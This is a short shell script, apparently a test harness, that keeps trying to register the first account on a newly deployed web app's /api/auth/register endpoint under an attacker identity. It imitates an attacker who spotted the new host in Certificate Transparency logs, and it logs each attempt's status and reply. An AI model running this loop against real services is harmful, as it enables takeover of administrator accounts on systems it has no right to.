#!/bin/sh
# The attack of a first deploy: someone who saw the new name in Certificate
# Transparency logs tries, again and again, to register the first account through
# the public HTTPS proxy. One line per attempt: epoch, HTTP status (000 = nothing
# listening yet), the answer's first 60 bytes.
url=$1 resolve=$2 log=$3
body='{"email":"attacker@evil.test","password":"attacker-password-1","company":"Evil","provider":"LOCAL"}'
while :; do
  answer=$(curl -sk --max-time 3 --resolve "$resolve" -H 'Content-Type: application/json' \
    -d "$body" -w '\n%{http_code}' "$url/api/auth/register" 2>/dev/null)
  code=$(printf '%s' "$answer" | tail -n 1)
  text=$(printf '%s' "$answer" | head -n 1 | head -c 60)
  echo "$(date +%s) $code $text" >> "$log"
  sleep 0.3
done
